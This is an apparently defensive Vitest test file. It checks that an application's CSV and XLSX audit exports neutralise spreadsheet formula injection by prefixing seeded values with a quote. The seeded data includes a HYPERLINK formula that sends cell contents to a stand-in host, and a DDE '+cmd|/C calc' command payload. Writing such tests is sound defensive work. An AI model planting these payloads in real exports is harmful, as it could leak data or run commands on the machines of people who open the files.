import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedUser } from '../../../test/factories.ts';
import { buildTestApp } from '../../../test/helper.ts';
import { seedCompletedValidation } from '../../../test/validation-seed.ts';

const hostile = '=HYPERLINK("http://x.invalid/?"&A1,"Klik")';

describe('audit exports neutralise formulas (CSV and XLSX read back)', () => {
  let t: Awaited<ReturnType<typeof buildTestApp>>;
  let owner: Awaited<ReturnType<typeof seedUser>>;
  beforeAll(async () => {
    t = await buildTestApp();
    owner = await seedUser(t.ctx.db, t.ctx.config);
    await seedCompletedValidation(t.ctx.db, owner.companyId, owner.user.id, {
      name: hostile,
      template_names: ['@SUM(1+1)'],
      document_types: ['+cmd|/C calc!A0', '-2+3'],
      counts: { match: 4, mismatch: 1 },
    });
  });
  afterAll(() => t.close());

  const expectNeutral = (row: unknown[]) => {
    expect(row[1]).toBe(`'${hostile}`);
    expect(row[2]).toBe("'@SUM(1+1)");
    expect(row[3]).toBe("'+cmd|/C calc!A0; -2+3");
  };

  it('validation/download-audit and query/export?format=csv', async () => {
    for (const [method, url] of [
      ['GET', '/api/v1/validation/download-audit'],
      ['POST', '/api/v1/query/export?format=csv'],
    ] as const) {
      const answer = await t.app.inject({ method, url, headers: owner.auth });
      expect(answer.statusCode, answer.body).toBe(200);
      const rows = parse(answer.body, { bom: true }) as string[][];
      expect(rows).toHaveLength(2);
      expectNeutral(rows[1]!);
      // Genuine numbers stay numbers.
      expect(rows[1]![6]).toBe('4');
      expect(rows[1]![7]).toBe('1');
    }
  });

  it('query/export as XLSX', async () => {
    const answer = await t.app.inject({ method: 'POST', url: '/api/v1/query/export', headers: owner.auth });
    expect(answer.statusCode, answer.body).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.rawPayload as unknown as ArrayBuffer);
    const row = workbook.worksheets[0]!.getRow(2);
    const values = (row.values as unknown[]).slice(1);
    expectNeutral(values);
    expect(row.getCell(7).value).toBe(4);
    for (let column = 1; column <= 14; column++) expect(row.getCell(column).formula).toBeUndefined();
  });
});
